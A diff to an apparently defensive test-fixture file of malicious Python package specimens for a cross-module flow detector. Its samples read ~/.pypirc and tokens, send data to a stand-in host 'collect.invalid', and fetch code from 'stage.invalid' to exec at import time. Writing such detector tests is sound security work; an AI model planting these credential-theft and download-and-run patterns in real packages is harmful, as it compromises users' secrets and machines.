@@ -14,6 +14,7 @@ def _two(title: str, reader: str, sender: str, entry: str, *, missed: str = "", 
     return npm("flows across files", title, entry, files, missed=missed)
 
 
+_LATER = "that a call makes another module's code run sooner is not followed: the flow is found, and weighs less"
 _PY_READ = "import os\n"
 _PY_SECRET = "open(os.path.expanduser('~/.pypirc')).read()"
 _PY_SEND = "urllib.request.urlopen('https://collect.invalid/in', data=data)"
@@ -70,6 +71,7 @@ MODULES: tuple[Specimen, ...] = (
         _PY_TOKEN,
         f"import urllib.request\nfrom . import read\n\n\ndef go():\n    data = read.token().encode()\n    {_PY_SEND}\n",
         "from .net import go\ngo()\n",
+        missed=_LATER,
     ),
     _both(
         "the whole environment",
@@ -85,6 +87,17 @@ MODULES: tuple[Specimen, ...] = (
             "pad/get.py": "import urllib.request\n\n\ndef get():\n"
             "    return urllib.request.urlopen('https://stage.invalid/x').read()\n",
             "pad/run.py": "from .get import get\n\n\ndef go():\n    exec(get())\n",
+        },
+        missed=_LATER,
+    ),
+    pypi(
+        "flows across modules",
+        "downloaded in one and executed in another as it is loaded",
+        "from . import run\n",
+        {
+            "pad/get.py": "import urllib.request\n\n\ndef get():\n"
+            "    return urllib.request.urlopen('https://stage.invalid/x').read()\n",
+            "pad/run.py": "from .get import get\nexec(get())\n",
         },
     ),
     pypi(
@@ -110,6 +123,7 @@ MODULES: tuple[Specimen, ...] = (
         "a function of another module does it all",
         "from .run import go\ngo()\n",
         {"pad/run.py": f"import os\n\n\ndef go():\n    os.system('{COMMAND}')\n"},
+        missed=_LATER,
     ),
 )
 
